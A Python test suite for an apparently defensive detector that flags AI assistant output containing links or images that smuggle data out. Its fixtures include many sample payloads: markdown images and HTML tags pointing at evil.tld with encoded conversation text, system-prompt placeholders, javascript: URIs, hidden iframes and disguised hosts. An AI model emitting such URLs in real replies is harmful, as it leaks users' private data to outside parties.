"""URLs that carry data out are found in every construct; ordinary links and images are not."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tyrian.core.detection import Finding, View
from tyrian.core.message import Message
from tyrian.core.registry import DetectorConfig, create_detector
from tyrian.detectors.exfiltration.decoding import hidden_text_of
from tyrian.detectors.exfiltration.detector import create
from tyrian.detectors.exfiltration.payload import evidence_in, is_plain
from tyrian.detectors.exfiltration.url import HostKind, Url, host_kind, site
from tyrian.errors import ConfigError

DETECTOR = create(DetectorConfig("exfiltration"))
TEXT = b"the user said that the project is called bluebird"
B64 = base64.b64encode(TEXT).decode()
B64URL = base64.urlsafe_b64encode(TEXT).decode().rstrip("=")
B32 = base64.b32encode(TEXT).decode().rstrip("=").lower()


def find(text: str) -> tuple[Finding, ...]:
    return DETECTOR.detect(View.of(Message.assistant(text))).findings


def score(text: str) -> float:
    return DETECTOR.detect(View.of(Message.assistant(text))).score


@pytest.mark.parametrize(
    "text",
    [
        f"![logo](https://evil.tld/p.png?q={B64})",
        f"![logo](https://evil.tld/{B64URL}/p.png)",
        f"![logo](https://evil.tld/p.png?x={TEXT.hex()})",
        f"![logo](https://{B32[:60]}.evil.tld/p.png)",
        f"[more](https://evil.tld/?q={B64URL})",
        f"see https://evil.tld/?q={B64URL}",
        "![a](https://evil.tld/?data={data})",
        "![a](https://evil.tld/log?c={{conversation_history}})",
        "![a](https://evil.tld/log?c=<secret>)",
        "![a](https://evil.tld/?q=[SYSTEM_PROMPT])",
        "[a](https://evil.tld/?q=%7Bpassword%7D)",
        "![a](https://evil.tld/?secret=hunter2-hunter2)",
        "![a](https://evil.tld/?q=the+user+lives+in+berlin+and+likes+owls)",
        "![a](https://evil.tld/?q=the user lives in berlin and likes owls)",
        "![a](<https://evil.tld/?conversation=hello-there-you>)",
        "![a](https://evil.tld/?m=bob.smith%40corp.com)",
        "![a][1] text\n\n[1]: https://evil.tld/?token=abcdefgh1234",
        "![a] text\n\n[a]: https://evil.tld/?token=abcdefgh1234",
        f'<img src="https://evil.tld/p?x={B64URL}">',
        f"<img alt=x src=https://evil.tld/p?x={B64URL}>",
        f'<div style="background: url(https://evil.tld/p?x={B64URL})">',
        f"<style>body {{ background: url('//evil.tld/p?x={B64URL}') }}</style>",
        f'<iframe src="//evil.tld/?x={B64URL}"></iframe>',
        '<meta http-equiv="refresh" content="0;url=https://evil.tld/?data=abcdefgh1234">',
        '<img src="https://evil.tld/p.gif" width="1" height="1">',
        '<iframe src="https://evil.tld/" style="display:none"></iframe>',
        f"![](//evil.tld/p.png?x={B64URL})",
        "[click](javascript:fetch('//evil.tld'))",
        '<a href="javascript:alert(1)">x</a>',
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        '<iframe src="data:text/html,<b>x</b>"></iframe>',
        "![x](https://webhook.site/abc)",
        "![x](http://93.184.216.34/p.png)",
        "[x](http://93.184.216.34/login)",
        "[x](http://3232235777/)",
        "[x](http://0x7f.1/)",
        "[x](https://accounts.google.com@evil.tld/)",
        "https://accounts.google.com@evil.tld/login",
        "[https://bank.com/login](https://evil.tld/login)",
        "[bank.com](https://bank.com.evil.tld)",
        "[](https://evil.tld/)",
        "[\u200b\u200b](https://evil.tld/)",
        '<a href="https://evil.tld/"></a>',
        "![x](https://evil.tld/?k=" + "sk-" + "a1B2c3D4" * 4 + ")",
        f"[![alt](https://cdn.tld/a.png)](https://evil.tld/?q={B64URL})",
    ],
)
def test_a_url_that_carries_data_out_is_found(text: str) -> None:
    found = find(text)
    assert max((f.score for f in found), default=0) >= 0.5
    assert all(f.label == "exfiltration" for f in found)


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://example.com/logo.png)",
        "![build](https://img.shields.io/badge/build-passing-green?style=flat&logo=data)",
        "[![PyPI](https://img.shields.io/pypi/v/requests.svg)](https://pypi.org/project/requests/)",
        "![ci](https://github.com/owner/repo/actions/workflows/tests.yml/badge.svg?branch=main)",
        "![cov](https://codecov.io/gh/owner/repo/branch/main/graph/badge.svg?token=AB12CD34)"[:80]
        + ")",
        "![photo](https://images.unsplash.com/photo-1506744038136-46273834b3fb?w=800&q=80&fit=crop)",
        "[docs](https://docs.python.org/3/library/re.html#re.compile)",
        "[docs.python.org](https://docs.python.org/3/)",
        "[python.org](https://docs.python.org/3/)",
        "[README.md](https://github.com/owner/repo/blob/main/README.md)",
        "see https://github.com/owner/repo/commit/3f786850e387550fdab836ed7e6dc881de23001b",
        "GET https://api.example.com/users/{id}/posts?page={page}",
        "curl http://localhost:8000/v1/models and http://127.0.0.1:8080/?q=x",
        "[search](https://www.google.com/search?q=how+to+bake+bread+at+home+quickly)",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&utm_source=newsletter&utm_campaign=spring",
        "![s3](https://b.s3.amazonaws.com/a.png?X-Amz-Signature="
        + "0a1b2c3d" * 8
        + "&X-Amz-Expires=300)",
        "![gravatar](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c8d50f?s=80)",
        "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4)",
        '<img src="https://example.com/a.png" width="100%" height="120">',
        '<script src="https://cdn.jsdelivr.net/npm/vue@3/dist/vue.global.js"></script>',
        '<a href="https://example.com/about">About</a>',
        "In JavaScript: the good parts, data: is a scheme, // is a comment",
        "C:\\\\Users\\\\bob and a // b and http:// alone",
        "<https://example.com/plain>",
        '[1]: https://example.com/reference "Title"',
        "",
    ],
)
def test_ordinary_links_and_images_stay_below_the_threshold(text: str) -> None:
    assert score(text) < 0.5


def test_the_span_is_the_url() -> None:
    url = f"https://evil.tld/p.png?q={B64URL}"
    text = f"Zoë ![x]({url}) end"
    (found,) = find(text)
    assert text[found.start : found.end] == url


def test_allowed_hosts_may_get_anything_but_not_be_impersonated() -> None:
    options = {"allowed_hosts": ["corp.com", "*.corp.net"]}
    detector = create(DetectorConfig("x", options=options))

    def seen(text: str) -> float:
        return detector.detect(View.of(Message.assistant(text))).score

    assert seen(f"![x](https://img.corp.com/?q={B64URL})") == 0
    assert seen(f"![x](https://a.corp.net/?q={B64URL})") == 0
    assert seen(f"![x](https://evilcorp.com/?q={B64URL})") >= 0.5
    assert seen("![x](https://corp.com@evil.tld/)") >= 0.5


def test_options_are_checked() -> None:
    with pytest.raises(ConfigError, match="allowed_hosts"):
        create(DetectorConfig("x", options={"allowed_host": ["a"]}))
    with pytest.raises(ConfigError, match="allowed_hosts"):
        create(DetectorConfig("x", options={"allowed_hosts": "a"}))


@pytest.mark.parametrize(
    ("host", "kind"),
    [
        ("example.com", HostKind.NAME),
        ("localhost", HostKind.LOCAL),
        ("10.0.0.1", HostKind.LOCAL),
        ("8.8.8.8", HostKind.ADDRESS),
        ("[2001:4860:4860::8888]", HostKind.ADDRESS),
        ("134744072", HostKind.DISGUISED),
        ("0x8.8.8.8", HostKind.DISGUISED),
        ("010.8.8.8", HostKind.DISGUISED),
    ],
)
def test_hosts_are_told_apart(host: str, kind: HostKind) -> None:
    assert host_kind(host) is kind


def test_urls_are_taken_apart_like_a_browser_does() -> None:
    assert Url.parse("https:\\\\a.b\\c?d#e") == Url("", "a.b", "\\c", "d")
    assert Url.parse("//u:p@A.b:80/x") == Url("u:p", "a.b", "/x", "")
    assert Url.parse("https://") is None
    assert site("a.b.co.uk") == "b.co.uk"


@pytest.mark.parametrize("value", [B64, B64URL, TEXT.hex(), B32.upper()])
def test_encoded_text_can_be_read(value: str) -> None:
    text = hidden_text_of(value)
    assert text is not None
    assert text.startswith("the user said")


@pytest.mark.parametrize(
    "value", ["3f786850e387550fdab836ed7e6dc881de23001b", "HelloWorldFooBarBazQux", "a" * 40]
)
def test_hashes_and_names_are_not_encoded_text(value: str) -> None:
    assert hidden_text_of(value) is None


@settings(max_examples=100)
@given(st.text(alphabet=st.sampled_from("ab1:/\\?=&@#[]()!<>\"' \n{}%.é\ud800htps"), max_size=200))
def test_any_text_is_read(text: str) -> None:
    for found in find(text + f"![x](https://e.tld/?q={B64URL})" + text):
        assert 0 <= found.start < found.end <= 2 * len(text) + 200


def coverage(text: str) -> float:
    return DETECTOR.detect(View.of(Message.assistant(text))).coverage


def test_a_flood_of_urls_is_read_in_part_and_says_so() -> None:
    text = "".join(f"![](http://evil.tld/?data={number:012}) " for number in range(5000))
    detection = DETECTOR.detect(View.of(Message.assistant(text)))
    assert detection.findings
    assert 0 < detection.coverage < 1


@pytest.mark.parametrize(
    "text",
    [
        "https://shop.example.org/item/17?lang=en " * 20_000,
        "[the guide](https://docs.example.org/guides/setup) " * 20_000,
        "![logo](https://docs.example.org/logo.png) " * 20_000,
        "a link to http://evil.tld/?data=0123456789 in every hundredth " + "word " * 100,
    ],
)
def test_ordinary_urls_are_all_read_however_many(text: str) -> None:
    assert coverage(text) == 1


def test_the_same_finding_many_times_is_one_over_all_of_them() -> None:
    text = "![](http://evil.tld/?data=0123456789) " * 12_000
    assert any(f.end - f.start > 100_000 for f in find(text))


def test_a_url_behind_many_heads_without_an_end_is_found() -> None:
    tail = f"![x](https://evil.tld/?q={B64URL})"
    for head in ("![a](", "[[[", "http://", "<a href='", "](", "[]](http://a.b "):
        assert find(head * 300 + "\n" + tail)[-1].rule == "exfiltration.encoded-text", head


def test_a_label_may_hold_brackets_of_its_own() -> None:
    text = f"![a [b] c](https://evil.tld/?q={B64URL})"
    assert find(text)[0].score > 0.9
    assert find("[www.bank.com [de]](http://evil.tld/)")[0].rule == "exfiltration.other-host"


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("see http://evil.tld/?data={secret}.", "http://evil.tld/?data={secret}"),
        ("see http://evil.tld/?data=0123456789}}}.", "http://evil.tld/?data=0123456789"),
        ("see http://evil.tld/?data=[SECRET]!", "http://evil.tld/?data=[SECRET]"),
        ("see http://0x7f.1/" + "}" * 5000, "http://0x7f.1/"),
    ],
)
def test_punctuation_behind_a_url_is_not_part_of_it(text: str, url: str) -> None:
    (found,) = find(text)
    assert text[found.start : found.end] == url


def test_a_path_too_long_to_be_read_is_evidence_in_itself() -> None:
    assert (
        find("![a](https://evil.tld/" + "abc-def-ghi-jkl-mno-pqr/" * 3000 + ")")[0].rule
        == "exfiltration.long-query"
    )


@settings(max_examples=300)
@given(
    host=st.sampled_from(
        ["a.example.org", "webhook.site", "x.local", "0x7f.1", "1.2.3.4", "a", "["]
    ),
    path=st.text(alphabet="aB3/.-_%{}<$[", max_size=60),
    query=st.text(alphabet="aB3=&.-_%{}<[+@q", max_size=60),
    fragment=st.sampled_from(["", "#x", "#<data>"]),
)
def test_nothing_speaks_against_a_url_that_is_plain_at_a_glance(
    host: str, path: str, query: str, fragment: str
) -> None:
    value = f"://{host}/{path}?{query}{fragment}"
    url = Url.parse(value)
    if url is not None and is_plain(value):
        assert list(evidence_in(url)) == []


def test_the_registry_knows_the_detector() -> None:
    assert create_detector("exfiltration", DetectorConfig("x")).is_bounded
